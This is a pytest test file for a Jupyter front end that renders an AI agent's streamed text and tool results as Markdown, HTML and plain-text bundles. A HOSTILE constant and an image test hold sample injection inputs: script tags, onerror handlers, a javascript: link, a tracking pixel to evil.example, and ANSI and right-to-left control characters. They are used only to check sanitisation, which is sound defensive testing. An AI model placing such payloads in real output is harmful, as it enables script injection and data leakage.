"""Text is cut into blocks where Markdown allows it; the bundles stay safe and complete without any renderer."""

from __future__ import annotations

import asyncio
import re
import time
from typing import Any

import pytest

from cumulus_jupyter.agent import events as e
from cumulus_jupyter.agent.messages import Image, RunResult, RunUsage, Status, ToolCall, ToolResult
from cumulus_jupyter.jupyter.board import MIME
from cumulus_jupyter.jupyter.direction import is_right_to_left
from cumulus_jupyter.jupyter.paragraphs import last_paragraph_end
from cumulus_jupyter.jupyter.twins import html_twin, markdown_html, plain_twin
from cumulus_jupyter.jupyter.view import CellView
from cumulus_jupyter.providers.demo import DemoProvider


@pytest.mark.parametrize(
    ("text", "head"),
    [
        ("one\n\ntwo", "one\n"),
        ("one\n\ntwo\n\nthree", "one\n\ntwo\n"),
        ("one\ntwo", ""),
        ("one\n\n", ""),
        ("```\ncode\n\nmore", ""),
        ("a\n\n```\ncode\n\nmore\n```\n\nb", "a\n\n```\ncode\n\nmore\n```\n"),
        ("~~~\n```\n\n~~~\n\nb", "~~~\n```\n\n~~~\n"),
        ("- item\n\n  goes on\n\nend", "- item\n\n  goes on\n"),
        ("- ```\n\n  x", ""),
    ],
)
def test_a_text_is_cut_at_paragraphs_only(text: str, head: str) -> None:
    assert text[: last_paragraph_end(text)] == head


class Screen:
    """What a front end would hold."""

    def __init__(self) -> None:
        self.shown: dict[str, dict[str, Any]] = {}
        self.sent: list[tuple[str, dict[str, Any], bool]] = []

    def publish(self, bundle: dict[str, Any], display_id: str, *, update: bool) -> None:
        assert update == (display_id in self.shown)
        self.shown[display_id] = bundle
        self.sent.append((display_id, {**bundle, MIME: dict(bundle[MIME])}, update))

    def form(self, ask: Any, submit: Any) -> None:
        return None

    @property
    def text(self) -> str:
        return "\n\n".join(
            b[MIME]["markdown"] for b in self.shown.values() if b[MIME]["kind"] == "text" and b[MIME]["markdown"]
        )


def draw(*events: e.Event, pause: float = 0.0, **options: Any) -> Screen:
    screen = Screen()

    async def run() -> None:
        view = CellView(screen, "session", "run", **{"watched": True, **options})
        view.begin(DemoProvider())
        for event in events:
            view.handle(event)
            if pause:
                await asyncio.sleep(pause)
        view.finish(RunResult("", Status.DONE, RunUsage(rounds=1)))

    asyncio.run(run())
    return screen


def words(text: str) -> list[e.Event]:
    return [e.RoundStarted(1), *(e.TextDelta(word + " ") for word in text.split(" "))]


def test_a_closed_block_is_sent_again_only_for_its_rich_twins_when_the_cell_rests() -> None:
    text = "\n\n".join(f"Paragraph {n} " + "word " * 250 for n in range(6))
    screen = draw(*words(text), pause=0.001)
    closed: dict[str, list[dict[str, Any]]] = {}
    for display_id, bundle, _ in screen.sent:
        if closed.get(display_id) or bundle[MIME]["state"] == "closed":
            closed.setdefault(display_id, []).append(bundle)
    assert len(closed) > 3
    for bare, *again in closed.values():
        assert bare[MIME] == (again or [bare])[-1][MIME]
        assert "text/html" in (again or [bare])[-1]
        assert len(again) <= 1
    early = [bundle for display_id, bundle, _ in screen.sent[: len(screen.sent) // 2]]
    assert not [bundle for bundle in early if "text/html" in bundle]
    assert screen.text.split() == text.split()


def test_with_nobody_watching_each_block_is_shown_once_and_whole() -> None:
    call = ToolCall("c", "read_file", {"path": "a.csv"})
    done = e.ToolFinished(call, ToolResult("c", "read_file", ["x"]))
    screen = draw(*words("Hello there."), e.ToolStarted(call), done, watched=False)
    assert not [update for _, _, update in screen.sent if update]
    assert {bundle[MIME]["state"] for bundle in screen.shown.values()} == {"closed"}


def test_text_is_taken_back_across_blocks() -> None:
    text = "Kept. " + "\n\n".join("gone-gone-gone-gone-gone " * 100 for _ in range(3))
    events = words(text)
    streamed = sum(len(event.text) for event in events if isinstance(event, e.TextDelta))
    screen = draw(*events, e.ReplyDiscarded("cut", streamed - 6), pause=0.0005)
    assert screen.text.split("\n\n")[0].strip() == "Kept."
    assert "gone" not in screen.text
    assert "taken back: cut" in screen.text


def test_quiet_shows_the_final_answer_and_the_foot_only() -> None:
    call = ToolCall("c", "read_file", {"path": "a.csv"})
    done = e.ToolFinished(call, ToolResult("c", "read_file", ["x"]))
    events = [*words("First."), e.ToolStarted(call), done, e.RoundStarted(2), e.TextDelta("Last.")]
    assert draw(*events, quiet=True).text == "Last."


HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) "
    "![pixel](https://evil.example/?d=1) \x1b[31mred\x1b[0m \u202egnirts"
)


def test_hostile_text_is_inert_in_every_twin() -> None:
    call = ToolCall("c", "run_python", {"code": HOSTILE})
    done = e.ToolFinished(call, ToolResult("c", "run_python", [HOSTILE], ok=False))
    screen = draw(*words(HOSTILE), e.ToolStarted(call), done)
    for bundle in screen.shown.values():
        assert "<script" not in bundle["text/html"]
        assert "<img" not in bundle["text/html"]
        assert 'href="javascript' not in bundle["text/html"]
        for twin in ("text/html", "text/plain"):
            assert "\x1b" not in bundle[twin]
            assert "\u202e" not in bundle[twin]


def test_markdown_twins_keep_what_markdown_says() -> None:
    html = markdown_html("# T\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](https://example.org) `<b>`")
    assert '<table dir="auto">' in html
    assert 'rel="noopener noreferrer"' in html
    assert "<code>&lt;b&gt;</code>" in html


def test_a_windowed_result_says_so_in_text() -> None:
    data = {
        "kind": "tool",
        "status": "ok",
        "verb": "read",
        "object": "customers.csv",
        "window": {"shown": 30_000, "total": 418_212},
        "arguments": "",
        "result": "",
    }
    assert plain_twin(data) == "✓ read customers.csv (30,000 of 418,212 characters)"
    assert "30,000 of 418,212" in html_twin(data)


def test_a_pause_before_the_next_attempt_is_told_with_its_end() -> None:
    """The front end counts down to it; the next activity has none."""

    def head(*events: e.Event) -> dict[str, Any]:
        return next(b[MIME] for b in draw(*events).shown.values() if b[MIME].get("role") == "head")

    waiting = head(e.RoundStarted(1), e.Retrying("busy", 2, 5, 30.0))
    assert "attempt 2 of 5" in waiting["activity"]
    assert 20_000 < waiting["until"] - time.time() * 1000 < 31_000
    assert head(e.Retrying("busy", 2, 5, 30.0), e.RoundStarted(2))["until"] is None


def test_pictures_of_a_result_are_kept_unless_they_are_none() -> None:
    """A picture that a tool read is in the data and the HTML twin; anything but base64 of a bitmap is left out."""
    call = ToolCall("c", "read_file", {"path": "a.png"})
    content = [
        Image("image/png", "iVBORw0K"),
        Image('image/png" onerror="x', "iVBORw0K"),
        Image("image/svg+xml", "PHN2"),
    ]
    screen = draw(e.ToolStarted(call), e.ToolFinished(call, ToolResult("c", "read_file", content)))
    bundle = next(b for b in screen.shown.values() if b[MIME]["kind"] == "tool")
    assert bundle[MIME]["pictures"] == ["data:image/png;base64,iVBORw0K"]
    assert bundle["text/html"].count("<img") == 1
    assert "onerror" not in bundle["text/html"]


@pytest.mark.parametrize(
    ("text", "turned"),
    [("churn هو العمود الذي يقول ذلك", True), ("The column הלך", False), ("解約日", False), ("42", False)],
)
def test_a_text_runs_as_most_of_its_letters_do(text: str, turned: bool) -> None:
    assert is_right_to_left(text) == turned
    assert ('class="cu-panel cu-rtl"' in html_twin({"kind": "panel", "summary": text, "root": []})) == turned


def test_each_paragraph_of_a_text_runs_its_own_way() -> None:
    html = markdown_html("عربي\n\n- one\n\n`<p>`")
    assert html.count('dir="auto"') == 3
    assert "<code>&lt;p&gt;</code>" in html


def test_html_twins_say_all_without_styles_and_classes() -> None:
    """What GitHub leaves of them still tells answers, steps, todos and the end."""
    question = {"kind": "question", "outcome": "answered", "answers": [{"header": "Target", "answer": "churn <b>"}]}
    assert bare(html_twin(question)) == "<div>✓ <bdi>Target</bdi>: <b>churn &lt;b&gt;</b></div>"
    todos = {
        "kind": "todos",
        "items": [{"status": "completed", "label": "read"}, {"status": "pending", "label": "draw"}],
    }
    assert bare(html_twin(todos)) == "<div>☑ <s>read</s><br>☐ draw</div>"
    call = {"kind": "tool", "status": "error", "verb": "read", "object": "a&b.md", "object_kind": "code"}
    told = html_twin({**call, "note": "no such file", "arguments": "path: a&b.md", "result": "<none>"})
    assert "<summary>✗ read <code>a&amp;b.md</code> — no such file</summary>" in bare(told)
    assert "<pre>&lt;none&gt;</pre>" in bare(told)
    usage = {"rounds": 2, "input": 1200, "cached": 0, "output": 34, "seconds": 1.0, "cost": 0.0}
    foot = {"kind": "status", "role": "foot", "status": "turn_limit", "message": "", "usage": usage, "next": "go on"}
    assert bare(html_twin(foot)) == (
        "<div><b>turn limit</b> &nbsp; 2 rounds &nbsp; 1,200 in · 34 out &nbsp; 1.0 s &nbsp; go on</div>"
    )


def bare(html: str) -> str:
    """HTML without attributes and without spans."""
    return re.sub(r"</?span>", "", re.sub(r"<(\w+)\s[^>]*>", r"<\1>", html))
